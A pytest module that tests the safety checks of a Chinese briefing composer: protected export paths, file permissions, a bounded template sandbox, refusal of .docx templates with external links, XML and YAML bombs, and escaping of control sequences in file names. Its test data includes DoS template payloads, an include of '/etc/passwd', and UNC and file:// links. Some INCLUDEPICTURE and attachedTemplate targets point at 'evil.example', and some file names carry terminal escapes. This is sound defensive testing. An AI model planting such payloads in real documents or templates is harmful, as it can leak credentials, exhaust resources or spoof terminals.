"""Data safety II (issue 16): where an export may be written and with which permissions,
what a user template may hold (no DTD, no link outside it) and how far it may go (the
bounded sandbox), theme files built to explode, and what the command line echoes to the
terminal. Every test works on real files: a real library, real .docx packages edited
part by part, real file names with newlines and escape sequences."""

from __future__ import annotations

import hashlib
import io
import os
import re
import shutil
import sqlite3
import stat
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from docx import Document

from composer.briefings.drafts import DraftQuery, compose
from composer.briefings.export import export_briefing
from composer.briefings.templates import add_template, template_data
from composer.cli.main import main
from composer.common.files import write_atomically
from composer.common.messages import BriefingError
from composer.tagging import review, themes
from db import briefings as briefing_store
from db import open_library
from db.excerpts import ExcerptFilter
from tests.conftest import REPO, unprivileged

SHIPPED = (REPO / "templates" / "讲话摘编.docx").read_bytes()
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
RELATIONSHIP = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def briefing(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    """Run ``briefing ARGV`` in this process, as the installed command does."""
    capsys.readouterr()
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def _composed(library) -> int:
    review.accept(library, ExcerptFilter(kind="statement"))
    made = compose(library, "讲话摘编", DraftQuery(persons=["林振华"]))
    assert made.id is not None
    return made.id


def _digest(path: Path) -> str | None:
    return hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else None


# -- item 2: an export never replaces the library ------------------------------------------------


@pytest.mark.parametrize("name", [
    "library.sqlite", "sub/../library.sqlite", "library.sqlite-wal", "library.sqlite-shm", "library.sqlite-journal",
    "library.search.sqlite", "library.search.sqlite-wal", "backups/library-2026-01-01T0900.sqlite",
    "backups/简报.docx", "symlink.docx", "hardlink.docx",
])
def test_an_export_never_replaces_the_library_its_side_files_its_index_or_a_backup(demo_library: Path,
                                                                                    name: str) -> None:
    folder = demo_library.parent
    (folder / "sub").mkdir()
    (folder / "backups").mkdir(exist_ok=True)
    shutil.copy(demo_library, folder / "backups" / "library-2026-01-01T0900.sqlite")
    os.symlink(demo_library, folder / "symlink.docx")
    os.link(demo_library, folder / "hardlink.docx")
    target = folder / name
    with open_library(demo_library) as library:
        briefing_id = _composed(library)
        before = _digest(target)
        with pytest.raises(BriefingError) as error:
            export_briefing(library, briefing_id, target)
        assert _digest(target) == before  # neither replaced nor created
        assert library.conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    assert error.value.code in ("output_is_library", "output_in_backups")
    assert name.rsplit("/", 1)[-1] in str(error.value)


def test_an_export_never_overwrites_another_database(demo_library: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    copy = elsewhere / "备份.docx"  # a backup copied to a USB stick and renamed
    shutil.copy(demo_library, copy)
    before = _digest(copy)
    with open_library(demo_library) as library:
        briefing_id = _composed(library)
        with pytest.raises(BriefingError) as error:
            export_briefing(library, briefing_id, copy)
    assert error.value.code == "output_is_database"
    assert _digest(copy) == before
    assert sqlite3.connect(copy).execute("PRAGMA integrity_check").fetchone()[0] == "ok"


def test_the_commands_refuse_the_library_as_output_and_compose_saves_nothing(capsys, demo_library: Path) -> None:
    db = ["--db", str(demo_library)]
    with open_library(demo_library) as library:
        briefing_id = _composed(library)
        saved = len(briefing_store.list_briefings(library))
    before = _digest(demo_library)
    code, _, err = briefing(capsys, *db, "export", str(briefing_id), "-o", str(demo_library))
    assert code == 1 and "不能导出到" in err and "资料库本身" in err
    code, _, err = briefing(capsys, *db, "compose", "--template", "讲话摘编", "--person", "林振华",
                            "-o", str(demo_library))
    assert code == 1 and "不能导出到" in err
    assert _digest(demo_library) == before
    with open_library(demo_library) as library:
        assert len(briefing_store.list_briefings(library)) == saved  # compose stopped before saving


# -- item 12: permissions -----------------------------------------------------------------------


@pytest.mark.skipif(os.name == "nt", reason="POSIX permissions")
def test_an_export_keeps_the_mode_it_replaces_and_a_new_one_follows_the_umask(demo_library: Path,
                                                                              tmp_path: Path) -> None:
    def mode(path: Path) -> int:
        return stat.S_IMODE(path.stat().st_mode)

    previous = os.umask(0o022)
    try:
        output = tmp_path / "简报.docx"
        with open_library(demo_library) as library:
            briefing_id = _composed(library)
            export_briefing(library, briefing_id, output)
            assert mode(output) == 0o644  # readable by colleagues, as any new file
            for kept in (0o664, 0o640, 0o604):
                os.chmod(output, kept)
                export_briefing(library, briefing_id, output)
                assert mode(output) == kept
        os.umask(0o007)
        write_atomically(tmp_path / "组内.csv", b"a,b\n")
        assert mode(tmp_path / "组内.csv") == 0o660
    finally:
        os.umask(previous)


# -- item 14: writing fails with a message -------------------------------------------------------


@pytest.mark.skipif(not hasattr(os, "fork"), reason="needs os.fork (POSIX permissions)")
def test_an_export_into_a_read_only_folder_is_explained() -> None:
    place = Path(tempfile.mkdtemp(prefix="briefing-ro-"))  # not under pytest's private (0700) folder
    try:
        os.chmod(place, 0o555)

        def job() -> str:
            try:
                write_atomically(place / "简报.docx", b"document")
            except BriefingError as error:
                return f"{error.code}: {error}"
            return "written"

        outcome = str(unprivileged(job))
        assert outcome.startswith("output_folder_read_only:") and str(place) in outcome
        assert list(place.iterdir()) == []
    finally:
        os.chmod(place, 0o755)
        shutil.rmtree(place)


def test_theme_lists_are_written_like_exports(library_path: Path, tmp_path: Path) -> None:
    """A missing folder or another database as the target is a message, not an OSError,
    and the database is left as it was."""
    other = tmp_path / "其他.sqlite"
    sqlite3.connect(other).close()
    with sqlite3.connect(other) as connection:
        connection.execute("create table t (x)")
    before = _digest(other)
    with open_library(library_path) as library:
        with pytest.raises(BriefingError) as missing:
            themes.export_yaml(library, tmp_path / "没有" / "主题.yaml")
        with pytest.raises(BriefingError) as database:
            themes.export_csv(library, other)
        assert themes.export_csv(library, tmp_path / "主题.csv") > 0
    assert missing.value.code == "output_folder_missing" and "没有" in str(missing.value)
    assert database.value.code == "output_is_database" and _digest(other) == before
    assert (tmp_path / "主题.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads it as UTF-8


def test_long_chinese_file_names(tmp_path: Path) -> None:
    fits = tmp_path / ("简" * 82 + ".docx")  # 251 bytes: the name fits, a temporary name built from it would not
    write_atomically(fits, b"document")
    assert fits.read_bytes() == b"document" and [p.name for p in tmp_path.iterdir()] == [fits.name]
    too_long = tmp_path / ("报" * 90 + ".docx")  # 275 bytes
    with pytest.raises(BriefingError) as error:
        write_atomically(too_long, b"document")
    assert error.value.code == "output_name_too_long" and "275" in str(error.value)
    assert [p.name for p in tmp_path.iterdir()] == [fits.name]


@pytest.mark.parametrize("argv", [
    ("export", "9223372036854775808", "-o", "x.docx"),
    ("export", "1" + "0" * 5000, "-o", "x.docx"),
    ("excerpts", "--limit", "9223372036854775808"),
    ("history", "--limit", "-99999999999999999999"),
    ("review", "accept", "9223372036854775808"),
    ("review", "span", "1", "0", str(2**64)),
    ("search", "接诉即办", "--limit", "9223372036854775808"),
    ("articles", "--limit", "9223372036854775808"),
    ("show", "9223372036854775808"),
])
def test_numbers_sqlite_cannot_hold_are_usage_errors(capsys, library_path: Path, argv: tuple[str, ...]) -> None:
    capsys.readouterr()
    with pytest.raises(SystemExit) as stopped:
        main(["--db", str(library_path), *argv])
    assert stopped.value.code == 2
    assert "超出范围" in capsys.readouterr().err


def test_an_id_sqlite_cannot_hold_is_a_missing_briefing(demo_library: Path, tmp_path: Path) -> None:
    with open_library(demo_library) as library, pytest.raises(BriefingError) as error:
        export_briefing(library, 2**63, tmp_path / "x.docx")
    assert error.value.code == "briefing_missing"


# -- item 14: the bounded sandbox -----------------------------------------------------------------


def _template_with(tmp_path: Path, text: str) -> Path:
    document = Document(io.BytesIO(SHIPPED))
    document.add_paragraph(text)
    path = tmp_path / "custom.docx"
    document.save(str(path))
    return path


@pytest.mark.parametrize(("text", "reason"), [
    ("{% include 'other.docx' %}", "不能引用其他模板"),
    ("{% import 'macros' as m %}", "不能引用其他模板"),
    ("{% extends 'base' %}", "不能引用其他模板"),
    ("{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}", "嵌套超过"),
    ("{% for x in [[1, [2, [3]]]] recursive %}{{ loop([x]) }}{% endfor %}", "嵌套超过"),
    ("{% for i in range(10**9) %}{% endfor %}", "range() 最多"),
    ("{{ 'x' * 10**10 }}", "超过 10000000 个字符"),
    ("{{ 'x' * 10**8 }}", "超过 10000000 个字符"),
    ("{{ [0] * 10**9 }}", "超过 10000000 个字符"),
    ("{{ 'x'.ljust(10**9) }}", "超过 10000000 个字符"),
    ("{{ 'x'|center(10**9) }}", "超过 10000000 个字符"),
    ("{{ '%1000000000d' % 1 }}", "格式宽度"),
    ("{{ '{:>1000000000}'.format(1) }}", "格式宽度"),
    ("{{ 7 ** (10**9) }}", "位二进制"),
    ("{% set ns = namespace(s='xx') %}{% for i in range(80) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}", "个字符"),
    ("{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}", "循环和调用合计超过"),
    ("{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(28) }}", "循环和调用合计超过"),
    ("{{ ([[1]] * 300000) | sum(start=[]) }}", "sum 只能"),
])
def test_templates_that_would_hang_or_exhaust_memory_are_refused_with_the_reason(
        library_path: Path, tmp_path: Path, text: str, reason: str) -> None:
    with open_library(library_path) as library, pytest.raises(BriefingError) as error:
        add_template(library, _template_with(tmp_path, text))
    assert error.value.code == "template_limit" and reason in str(error.value), str(error.value)


@pytest.mark.parametrize("text", ["{{ 1 / 0 }}", "{{ 'a' + 1 }}", "{{ title.nonexistent() }}"])
def test_a_template_that_fails_otherwise_is_explained(library_path: Path, tmp_path: Path, text: str) -> None:
    with open_library(library_path) as library, pytest.raises(BriefingError) as error:
        add_template(library, _template_with(tmp_path, text))
    assert error.value.code in ("template_failed", "template_placeholder_unknown", "template_unsafe")


def test_the_command_line_explains_a_hostile_template_without_a_traceback(capsys, library_path: Path,
                                                                          tmp_path: Path) -> None:
    path = _template_with(tmp_path, "{% include '/etc/passwd' %}")
    code, _, err = briefing(capsys, "--db", str(library_path), "templates", "add", str(path))
    assert code == 1 and err.startswith("错误：模板超出了允许的范围：不能引用其他模板")


# -- items 11 and 14: what a template package may hold --------------------------------------------


def _package(tmp_path: Path, edits: dict[str, Callable[[str], str]] | None = None,
             added: dict[str, str] | None = None, name: str = "custom.docx") -> Path:
    """The shipped 讲话摘编 template with parts edited or added, as a real file."""
    edits, added = edits or {}, added or {}
    path = tmp_path / name
    with zipfile.ZipFile(io.BytesIO(SHIPPED)) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as copy:
        for info in source.infolist():
            data = source.read(info)
            if info.filename in edits:
                data = edits[info.filename](data.decode("utf-8")).encode("utf-8")
            copy.writestr(info, data)
        for part, text in added.items():
            copy.writestr(part, text)
    return path


def _relationships(*items: tuple[str, str, str]) -> str:
    """A .rels part: (id, type, target), each external."""
    listed = "".join(f'<Relationship Id="{rid}" Type="{RELATIONSHIP}{kind}" Target="{target}" TargetMode="External"/>'
                     for rid, kind, target in items)
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PACKAGE}">{listed}</Relationships>'


def _related(rid: str, kind: str, target: str) -> Callable[[str], str]:
    """An edit of an existing .rels part adding one external relationship."""
    element = f'<Relationship Id="{rid}" Type="{RELATIONSHIP}{kind}" Target="{target}" TargetMode="External"/>'
    return lambda xml: xml.replace("</Relationships>", element + "</Relationships>")


def _in_body(fragment: str) -> Callable[[str], str]:
    return lambda xml: xml.replace("<w:body>", f"<w:body><w:p>{fragment}</w:p>", 1)


def _field(code: str) -> str:
    """A complex field with its code split over three runs, as Word saves them."""
    third = len(code) // 3
    pieces = [code[:third], code[third:2 * third], code[2 * third:]]
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return (f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
            '<w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>')


UNC = "\\\\fileserver\\share\\logo.png"
DOCUMENT_RELS = "word/_rels/document.xml.rels"
LINKED_PICTURE = ('<w:r><w:drawing><wp:inline><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">'
                  '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
                  '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill>'
                  '<a:blip r:link="rId90"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline>'
                  '</w:drawing></w:r>')
HOSTILE_PACKAGES: dict[str, tuple[dict[str, Callable[[str], str]], dict[str, str]]] = {
    "linked picture": ({"word/document.xml": _in_body(LINKED_PICTURE), DOCUMENT_RELS: _related("rId90", "image", UNC)},
                       {}),
    "INCLUDEPICTURE, split over runs": ({"word/document.xml": _in_body(_field(f' INCLUDEPICTURE "{UNC}" \\d '))}, {}),
    "INCLUDETEXT": ({"word/document.xml": _in_body(_field(' INCLUDETEXT "C:\\\\Users\\\\x.docx" '))}, {}),
    "LINK": ({"word/document.xml": _in_body('<w:fldSimple w:instr=" LINK Excel.Sheet.12 &quot;\\\\\\\\srv\\\\a.xlsx&quot; '
                                            '&quot;Sheet1&quot; \\a "><w:r><w:t>x</w:t></w:r></w:fldSimple>')}, {}),
    "UNC hyperlink field": ({"word/document.xml": _in_body(_field(' HYPERLINK "\\\\\\\\fileserver\\\\share" '))}, {}),
    "file hyperlink": ({"word/document.xml": _in_body('<w:hyperlink r:id="rId91"><w:r><w:t>x</w:t></w:r></w:hyperlink>'),
                        DOCUMENT_RELS: _related("rId91", "hyperlink", "file:///C:/Users/秘书/密码.txt")}, {}),
    "UNC hyperlink": ({DOCUMENT_RELS: _related("rId92", "hyperlink", UNC)}, {}),
    "picture linked from the footer": ({}, {"word/_rels/footer1.xml.rels": _relationships(("rId1", "image", UNC))}),
    "frame in webSettings": ({}, {"word/_rels/webSettings.xml.rels": _relationships(
        ("rId1", "frame", "https://example.org/frame.html"))}),
    "customXml": ({}, {"customXml/item1.xml": "<data/>", "customXml/_rels/item1.xml.rels": _relationships(
        ("rId1", "customXmlProps", UNC))}),
    "VML picture": ({"word/document.xml": _in_body(
        '<w:r><w:pict><v:shape><v:imagedata o:href="file:///C:/logo.png"/></v:shape></w:pict></w:r>')}, {}),
    "mail merge": ({"word/settings.xml": lambda xml: xml.replace(
        "<w:defaultTabStop", '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
        '<w:connectString w:val="Provider=MSDASQL;Data Source=\\\\srv\\db"/></w:mailMerge><w:defaultTabStop', 1)}, {}),
}


@pytest.mark.parametrize("kind", list(HOSTILE_PACKAGES))
def test_a_template_that_links_outside_itself_is_refused(library_path: Path, tmp_path: Path, kind: str) -> None:
    edits, added = HOSTILE_PACKAGES[kind]
    with open_library(library_path) as library:
        with pytest.raises(BriefingError) as error:
            add_template(library, _package(tmp_path, edits, added))
        assert error.value.code == "template_external_link", str(error.value)
        assert not briefing_store.user_templates(library)


@pytest.mark.parametrize("part", ["word/document.xml", "word/styles.xml", DOCUMENT_RELS, "[Content_Types].xml"])
def test_a_template_with_a_doctype_is_refused(library_path: Path, tmp_path: Path, part: str) -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    path = _package(tmp_path, {part: lambda xml: xml.replace("?>", "?>" + bomb, 1)})
    with open_library(library_path) as library, pytest.raises(BriefingError) as error:
        add_template(library, path)
    assert error.value.code == "template_doctype" and part in str(error.value)


ATTACHED = {
    "word/settings.xml": lambda xml: xml.replace("<w:defaultTabStop", '<w:attachedTemplate r:id="rId1"/><w:defaultTabStop', 1),
    "docProps/app.xml": lambda xml: xml.replace("<HyperlinkBase/>", f"<HyperlinkBase>{UNC}</HyperlinkBase>"),
}


def _external_links(docx: bytes) -> list[str]:
    """Every external target in a package but the web links a document may hold."""
    found = []
    with zipfile.ZipFile(io.BytesIO(docx)) as archive:
        for name in archive.namelist():
            text = archive.read(name).decode("utf-8", "replace")
            if name.endswith(".rels"):
                found += [t for t in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', text)
                          if not t.startswith(("http://", "https://", "mailto:"))]
            found += re.findall(r"attachedTemplate|<HyperlinkBase>[^<]|INCLUDEPICTURE|file:///", text)
    return found


def test_an_attached_template_is_removed_and_web_links_stay(demo_library: Path, tmp_path: Path) -> None:
    added = {"word/_rels/settings.xml.rels": _relationships(("rId1", "attachedTemplate", "\\\\srv\\模板\\公文.dotm"))}
    edits = {**ATTACHED, DOCUMENT_RELS: _related("rId93", "hyperlink", "https://www.fengtai.gov.cn/")}
    path = _package(tmp_path, edits, added, name="红头.docx")
    assert _external_links(path.read_bytes())  # the file as it came
    output = tmp_path / "out.docx"
    with open_library(demo_library) as library:
        add_template(library, path, name="红头", kind="speech")
        kept = template_data(library, "红头")
        review.accept(library, ExcerptFilter(kind="statement"))
        made = compose(library, "红头", DraftQuery(persons=["林振华"]))
        export_briefing(library, made.id, output)
    assert _external_links(kept) == [] and _external_links(output.read_bytes()) == []
    with zipfile.ZipFile(output) as archive:
        assert "https://www.fengtai.gov.cn/" in archive.read(DOCUMENT_RELS).decode()
    assert any("林振华" in p.text for p in Document(str(output)).paragraphs)


def test_templates_stored_before_these_checks_are_checked_at_every_export(demo_library: Path,
                                                                           tmp_path: Path) -> None:
    """A library keeps templates added by older versions, unchecked: they are checked
    when rendered, and so is what the template writes (raw XML through |safe)."""
    attached = _package(tmp_path, ATTACHED, {"word/_rels/settings.xml.rels": _relationships(
        ("rId1", "attachedTemplate", "https://evil.example/t.dotm"))}, name="old.docx").read_bytes()
    writes_a_field = _template_with(tmp_path, "{{ '</w:t></w:r><w:fldSimple w:instr=\" INCLUDEPICTURE "
                                              "http://evil.example/p.png \"><w:r><w:t>x</w:t></w:r></w:fldSimple>"
                                              "<w:r><w:t>'|safe }}").read_bytes()
    output = tmp_path / "out.docx"
    with open_library(demo_library) as library:
        briefing_store.add_user_template(library, "旧模板", "speech", attached)
        briefing_store.add_user_template(library, "写域的模板", "speech", writes_a_field)
        review.accept(library, ExcerptFilter(kind="statement"))
        made = compose(library, "旧模板", DraftQuery(persons=["林振华"]))
        export_briefing(library, made.id, output)
        assert _external_links(output.read_bytes()) == []
        output.unlink()
        other = compose(library, "写域的模板", DraftQuery(persons=["林振华"]))
        with pytest.raises(BriefingError) as error:
            export_briefing(library, other.id, output)
    assert error.value.code == "template_external_link" and "INCLUDEPICTURE" in str(error.value)
    assert not output.exists()


W_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
FOOTNOTES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"


def _footnotes_writing(raw: str) -> dict[str, Callable[[str], str]]:
    """Edits that give the shipped template a footnotes part whose text is a placeholder
    writing ``raw`` as XML (|safe): docxtpl renders footnotes as text, not as a tree."""
    placeholder = escape("{{ '</w:t></w:r>" + raw + "<w:r><w:t>'|safe }}")  # text, as Word stores what is typed
    footnotes = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:footnotes xmlns:w="{W_MAIN}">'
                 f'<w:footnote w:id="1"><w:p><w:r><w:t>{placeholder}</w:t></w:r></w:p></w:footnote></w:footnotes>')
    return {
        "[Content_Types].xml": lambda xml: xml.replace(
            "</Types>", f'<Override PartName="/word/footnotes.xml" ContentType="{FOOTNOTES_TYPE}"/></Types>'),
        DOCUMENT_RELS: lambda xml: xml.replace(
            "</Relationships>", f'<Relationship Id="rId99" Type="{RELATIONSHIP}footnotes" Target="footnotes.xml"/>'
                                "</Relationships>"),
    }, {"word/footnotes.xml": footnotes}


@pytest.mark.parametrize(("raw", "refused"), [
    ('<w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/p.png "><w:r><w:t>x</w:t></w:r></w:fldSimple>',
     "INCLUDEPICTURE"),
    ('<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" src="file:///C:/x.png"/></w:pict></w:r>',
     "file:///C:/x.png"),
])
def test_what_a_template_writes_into_its_footnotes_is_checked_before_the_export_is_written(
        demo_library: Path, tmp_path: Path, raw: str, refused: str) -> None:
    """The export checks what it is about to write in memory; the parts python-docx keeps as
    bytes — footnotes, which docxtpl renders as text — are parsed and checked as well."""
    edits, added = _footnotes_writing(raw)
    template = _package(tmp_path, edits, added, name="footnotes.docx").read_bytes()
    output = tmp_path / "out.docx"
    with open_library(demo_library) as library:
        briefing_store.add_user_template(library, "脚注模板", "speech", template)
        review.accept(library, ExcerptFilter(kind="statement"))
        made = compose(library, "脚注模板", DraftQuery(persons=["林振华"]))
        with pytest.raises(BriefingError) as error:
            export_briefing(library, made.id, output)
    assert error.value.code == "template_external_link" and refused in str(error.value)
    assert not output.exists()


# -- item 14: theme files ------------------------------------------------------------------------


def _laughs(levels: int, width: int) -> str:
    """Billion laughs: each list holds ``width`` aliases of the list before, so the
    keywords are ``2 * width ** (levels - 1)`` words made of a few hundred bytes."""
    lines = ["- name: 炸弹", "  x0: &l0 [词, 语]"]
    lines += [f"  x{n}: &l{n} [{', '.join([f'*l{n - 1}'] * width)}]" for n in range(1, levels)]
    return "\n".join([*lines, f"  keywords: *l{levels - 1}"]) + "\n"


THEME_BOMBS = {
    "recursive.yaml": "- &a\n  name: 自指\n  children: [*a]\n",
    "laughs.yaml": _laughs(6, 8),
    "aliased-children.yaml": "- name: 甲\n  children: &c\n    - name: 乙\n- name: 丙\n  children: *c\n",
    "deep.yaml": "[" * 3000 + "]" * 3000,
    "huge-cell.csv": "name,parent,keywords,synonyms,exclusions\n主题,," + '"' + "词" * 200_000 + '",,\n',
}


@pytest.mark.parametrize("name", list(THEME_BOMBS))
def test_theme_files_built_to_explode_are_refused_and_store_nothing(capsys, library_path: Path, tmp_path: Path,
                                                                     name: str) -> None:
    path = tmp_path / name
    path.write_text(THEME_BOMBS[name], encoding="utf-8")
    with open_library(library_path) as library:
        before = len(list(themes._flat(themes.theme_tree(library))))
        with pytest.raises(BriefingError) as error:
            themes.import_file(library, path)
        assert error.value.code == "theme_file_invalid"
        assert len(list(themes._flat(themes.theme_tree(library)))) == before
    code, _, err = briefing(capsys, "--db", str(library_path), "themes", "--import", str(path))
    assert code == 1 and err.startswith("错误：主题文件格式不对") and "Traceback" not in err


def test_aliases_of_plain_words_still_read(library_path: Path, tmp_path: Path) -> None:
    path = tmp_path / "words.yaml"
    path.write_text("- name: 新主题\n  keywords: [&w 接诉即办, 街乡]\n  synonyms: [*w]\n", encoding="utf-8")
    with open_library(library_path) as library:
        assert themes.import_file(library, path) == 1
        assert themes.find_theme(library, "新主题").synonyms == ["接诉即办"]


# -- item 13: what reaches the terminal ----------------------------------------------------------

RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # a newline may end a line, nothing else may appear


def test_file_names_are_printed_escaped_in_import_reports(capsys, library_path: Path, tmp_path: Path) -> None:
    folder = tmp_path / "来稿"
    folder.mkdir()
    (folder / "evil\n\x1b[31mred.txt").write_text("标题\n\n区委书记林振华强调，要把接诉即办工作做实做细。\n", encoding="utf-8")
    missing = tmp_path / "gone\x1b]0;owned\x07.txt"
    code, out, _ = briefing(capsys, "--db", str(library_path), "import", str(folder), str(missing))
    assert code == 1  # the missing file failed
    assert not RAW.search(out), out
    assert "evil\\n\\x1b[31mred.txt" in out and "gone\\x1b]0;owned\\x07.txt" in out
    lines = out.splitlines()
    assert any(line.startswith("已导入：") and "evil\\n" in line for line in lines)
    assert any(line.startswith("    原因：找不到文件：") and "gone\\x1b" in line for line in lines)


def test_export_paths_and_errors_are_printed_escaped(capsys, demo_library: Path, tmp_path: Path) -> None:
    with open_library(demo_library) as library:
        briefing_id = str(_composed(library))
    db = ["--db", str(demo_library)]
    target = tmp_path / "简报\x1b]0;pwned\x07\u202etxt.docx"
    code, out, _ = briefing(capsys, *db, "export", briefing_id, "-o", str(target))
    assert code == 0 and target.exists()
    assert not RAW.search(out) and "\u202e" not in out and "简报\\x1b]0;pwned\\x07\\u202etxt.docx" in out
    not_utf8 = Path(os.fsdecode(str(tmp_path).encode() + b"/\xff\xfe.docx"))  # bytes a file name may hold
    code, out, _ = briefing(capsys, *db, "export", briefing_id, "-o", str(not_utf8))
    assert code == 0 and "\\xff\\xfe.docx" in out
    code, _, err = briefing(capsys, *db, "export", briefing_id, "-o", str(tmp_path / "no\nsuch" / "x.docx"))
    assert code == 1 and err.count("\n") == 1 and "no\\nsuch" in err and not RAW.search(err)


def test_a_template_found_usable_is_not_checked_again_but_a_bad_one_always_is(monkeypatch) -> None:
    """Every export checks its template; the answer for bytes already found usable is
    remembered, so the shipped templates cost their check once a process."""
    from composer.briefings import docx_safety

    monkeypatch.setattr(docx_safety, "_USABLE", {})
    first = docx_safety.checked_docx(SHIPPED)
    monkeypatch.setattr(docx_safety, "_checked", lambda data: pytest.fail("checked again"))
    assert docx_safety.checked_docx(SHIPPED) == first
    monkeypatch.undo()
    bad = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(SHIPPED)) as source, zipfile.ZipFile(bad, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/document.xml":
                data = data.replace(b"<w:body>", b'<w:body><w:p><w:r><w:fldSimple w:instr="INCLUDEPICTURE '
                                    b'&quot;http://example.org/x.png&quot;"/></w:r></w:p>', 1)
            target.writestr(item, data)
    for _ in range(2):  # refused each time: a refusal is never remembered as usable
        with pytest.raises(BriefingError):
            docx_safety.checked_docx(bad.getvalue())


@pytest.mark.parametrize(("value", "remote"), [
    ("file:///C:/logo.png", True), ("  FILE:///C:/logo.png", True), ("\tFiLe:x", True),
    ("\\\\fileserver\\share\\a.png", True), ("\n //fileserver/share", True),
    ("https://www.gov.cn/a.png", False), ("Heading1", False), ("urn:schemas-microsoft-com:vml", False),
    ("a/b", False), ("profile:x", False),
])
def test_attribute_values_that_reach_outside_the_file(value: str, remote: bool) -> None:
    """Any attribute, any namespace: a file: URL or a UNC path is refused, with the part named."""
    from lxml import etree

    from composer.briefings.docx_safety import _check_values

    root = etree.fromstring('<x:root xmlns:x="urn:x" xmlns:o="urn:o"><x:child o:href="placeholder"/></x:root>')
    root[0].set("{urn:o}href", value)
    if remote:
        with pytest.raises(BriefingError) as error:
            _check_values("word/document.xml", root)
        assert error.value.code == "template_external_link" and "word/document.xml" in str(error.value)
    else:
        _check_values("word/document.xml", root)
